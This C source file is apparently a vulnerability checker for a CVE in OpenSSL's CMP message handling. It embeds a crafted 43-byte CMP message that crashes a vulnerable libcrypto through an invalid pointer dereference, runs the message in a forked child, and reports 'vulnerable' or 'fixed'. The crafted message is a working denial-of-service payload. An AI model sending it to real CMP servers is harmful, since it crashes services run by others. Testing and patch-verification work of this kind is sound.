// SPDX-License-Identifier: Apache-2.0

// Shows CVE-2026-63076 in a process that goes on running: a CMP message of 43
// bytes, whose protection has a parameter of a type that nobody asked for, makes
// libcrypto follow a pointer that is none. The message is read by a child, which
// has the code of its parent. Each line on standard input is a question, each
// line on standard output the answer of the libcrypto that the process runs.
#include <openssl/bio.h>
#include <openssl/cmp.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

static const unsigned char message[] = {
	0x30, 0x29,
	0x30, 0x1d, 0x02, 0x01, 0x02, 0xa4, 0x02, 0x30, 0x00, 0xa4, 0x02, 0x30, 0x00, // version, sender, recipient
	0xa1, 0x10, 0x30, 0x0e, // protection by a password
	0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf6, 0x7d, 0x07, 0x42, 0x0d,
	0x01, 0x01, 0xff, // and its parameter: TRUE
	0xb5, 0x02, 0x30, 0x00, // a general message without content
	0xa0, 0x04, 0x03, 0x02, 0x00, 0x00, // protected by nothing
};

// receive does what a server does with a message.
static void receive(void)
{
	BIO *in = BIO_new_mem_buf(message, sizeof message);
	OSSL_CMP_MSG *m = d2i_OSSL_CMP_MSG_bio(in, NULL);
	OSSL_CMP_CTX *c = OSSL_CMP_CTX_new(NULL, NULL);
	if (!m || !c || !OSSL_CMP_CTX_set1_secretValue(c, (const unsigned char *)"secret", 6))
		_exit(3);
	OSSL_CMP_CTX_set_log_cb(c, NULL);
	_exit(OSSL_CMP_validate_msg(c, m) ? 2 : 0);
}

int main(void)
{
	char line[64];
	setrlimit(RLIMIT_CORE, &(struct rlimit){0, 0});
	while (fgets(line, sizeof line, stdin)) {
		int status;
		pid_t child = fork();
		if (child == 0)
			receive();
		if (child < 0 || waitpid(child, &status, 0) != child)
			return 1;
		if (WIFSIGNALED(status))
			printf("vulnerable: a message of %zu bytes crashes it (signal %d)\n", sizeof message, WTERMSIG(status));
		else if (WEXITSTATUS(status) == 0)
			puts("fixed: the message is refused");
		else
			printf("it does not work (%d)\n", WEXITSTATUS(status));
		fflush(stdout);
	}
	return 0;
}
